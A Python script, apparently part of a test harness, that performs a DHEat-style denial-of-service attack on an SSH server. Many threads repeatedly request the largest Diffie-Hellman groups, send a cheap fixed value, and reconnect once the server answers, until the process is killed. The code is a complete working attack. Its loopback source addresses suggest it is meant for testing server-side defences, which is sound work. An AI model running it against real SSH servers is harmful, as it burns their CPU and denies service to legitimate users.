"""Makes the server compute key exchanges for nothing (DHEat): `COUNT SOURCES`.

So many connections at once ask for the largest groups, send a number that costs them nothing, and go as soon as the answer
comes, to begin again, until this is killed. Prints a line when every method was answered.
"""
import itertools
import socket
import struct
import threading

from common import ARGUMENTS, HOST, PORT

COUNT, SOURCES = (int(word) for word in ARGUMENTS)
KEXINIT, KEXDH_INIT, KEXDH_REPLY, GEX_INIT, GEX_REPLY, GEX_REQUEST = 20, 30, 31, 32, 33, 34


def string(text):
    return struct.pack(">I", len(text)) + text


def packet(number, body):
    length = 2 + len(body)
    padding = 8 - (4 + length) % 8
    padding += 8 if padding < 4 else 0
    return struct.pack(">IBB", length + padding, padding, number) + body + bytes(padding)


def client(method, *messages):
    """All that a client says until the server has computed."""
    lists = [method, b"ssh-ed25519"] + 2 * [b"aes128-ctr"] + 2 * [b"hmac-sha2-256"] + 2 * [b"none"] + 2 * [b""]
    kexinit = packet(KEXINIT, bytes(16) + b"".join(map(string, lists)) + bytes(5))
    return b"SSH-2.0-flood\r\n" + kexinit + b"".join(packet(*message) for message in messages)


# Two to the power of 2,040: a member of every group from 2,048 bits on.
NUMBER = string(b"\x01" + bytes(255))
# What they say, and the number of the answer.
CLIENTS = [
    (client(b"diffie-hellman-group18-sha512", (KEXDH_INIT, NUMBER)), KEXDH_REPLY),
    (client(b"diffie-hellman-group16-sha512", (KEXDH_INIT, NUMBER)), KEXDH_REPLY),
    (client(b"diffie-hellman-group-exchange-sha256",
            (GEX_REQUEST, struct.pack(">III", 2048, 8192, 8192)), (GEX_INIT, NUMBER)), GEX_REPLY),
]
answered = [False] * len(CLIENTS)


def gets(stream, wanted):
    """Whether a message of that number comes."""
    incoming = stream.makefile("rb")
    incoming.readline()
    while len(head := incoming.read(6)) == 6:
        length, _, number = struct.unpack(">IBB", head)
        if number == wanted:
            return True
        incoming.read(length - 2)
    return False


def work(number):
    source = f"127.211.0.{number % SOURCES + 1}"
    for kind in itertools.islice(itertools.cycle(range(len(CLIENTS))), number, None):
        try:
            with socket.create_connection((HOST, PORT), 120, (source, 0)) as stream:
                words, number_of_answer = CLIENTS[kind]
                stream.sendall(words)
                answered[kind] |= gets(stream, number_of_answer)
        except OSError:
            pass
        if all(answered):
            done.set()


done = threading.Event()
for number in range(COUNT):
    threading.Thread(target=work, args=(number,), daemon=True).start()
done.wait()
print("all are answered", flush=True)
threading.Event().wait()
